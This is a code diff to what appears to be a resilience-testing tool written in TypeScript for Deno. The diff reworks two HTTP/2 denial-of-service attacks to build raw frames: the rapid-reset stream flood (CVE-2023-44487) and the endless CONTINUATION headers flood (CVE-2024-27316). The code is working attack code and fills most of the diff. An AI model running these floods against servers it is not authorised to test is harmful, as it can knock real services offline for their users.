@@ -1,4 +1,3 @@
-import http2 from "node:http2";
 import type { Target } from "../target.ts";
 
 /** What every HTTP/2 connection begins with (RFC 9113, section 3.4), and empty settings. */
@@ -20,22 +19,44 @@ function frame(type: number, flags: number, stream: number, payload: Uint8Array)
 
 /** Asks and takes it back at once, on many streams (CVE-2023-44487). */
 export async function rapidResets(target: Target): Promise<void> {
+  const path = new TextEncoder().encode("/rooms/one/messages?limit=100");
+  // GET and http from the static table, and a path of our own (RFC 7541, 6.1 and 6.2.2).
+  const head = new Uint8Array([0x82, 0x86, 0x04, path.length, ...path]);
+  const cancel = new Uint8Array([0, 0, 0, 8]);
   await target.repeat("rapid reset", { times: 8, pauseMs: 50 }, async () => {
-    const session = http2.connect(target.url);
-    let isOver = false;
-    session.on("error", () => isOver = true);
-    session.on("close", () => isOver = true);
-    for (let i = 0; i < 3_000 && !target.isOver && !isOver; i++) {
-      const stream = session.request({ ":path": "/rooms/one/messages?limit=100" });
-      stream.on("error", () => {});
-      stream.close(http2.constants.NGHTTP2_CANCEL);
-      if (i % 100 === 99) {
-        await target.upload(100 * 60);
-        await target.rest(10);
+    using connection = await target.connect();
+    const isCut = readAll(connection);
+    await connection.write(PREFACE);
+    await connection.write(SETTINGS);
+    for (let i = 0; i < 300 && !target.isOver && !isCut(); i++) {
+      const parts: Uint8Array[] = [];
+      for (let k = 0; k < 10; k++) {
+        const stream = 2 * (10 * i + k) + 1;
+        parts.push(frame(1, FLAG_END_STREAM | FLAG_END_HEADERS, stream, head));
+        parts.push(frame(3, 0, stream, cancel));
       }
+      const bytes = new Uint8Array(parts.flatMap((part) => [...part]));
+      await target.upload(bytes.length);
+      await connection.write(bytes);
+      await target.rest(5);
     }
-    session.destroy();
   });
+}
+
+/** Reads whatever comes; returns whether the connection has ended. */
+function readAll(connection: Deno.TcpConn): () => boolean {
+  let isCut = false;
+  const read = async () => {
+    const buffer = new Uint8Array(16_384);
+    try {
+      while (await connection.read(buffer) !== null);
+    } catch {
+      // It was cut, by the hub or by us.
+    }
+    isCut = true;
+  };
+  void read();
+  return () => isCut;
 }
 
 /** Begins headers that go on and on (CONTINUATION, CVE-2024-27316). */
@@ -48,22 +69,13 @@ export async function continuations(target: Target): Promise<void> {
   const whole = block.subarray(0, Math.floor(block.length / field.length) * field.length);
   await target.repeat("continuation", { times: 8, pauseMs: 50 }, async () => {
     using connection = await target.connect();
-    const buffer = new Uint8Array(16_384);
-    let isCut = false;
-    void (async () => {
-      try {
-        while (await connection.read(buffer) !== null);
-      } catch {
-        // It was cut, by the hub or by us.
-      }
-      isCut = true;
-    })();
+    const isCut = readAll(connection);
     await connection.write(PREFACE);
     await connection.write(SETTINGS);
     // GET, http and /, from the static table.
     const start = new Uint8Array([0x82, 0x86, 0x84]);
     await connection.write(frame(1, FLAG_END_STREAM, 1, start));
-    for (let i = 0; i < 2_000 && !target.isOver && !isCut; i++) {
+    for (let i = 0; i < 2_000 && !target.isOver && !isCut(); i++) {
       await target.upload(whole.length);
       await connection.write(frame(9, 0, 1, whole));
     }
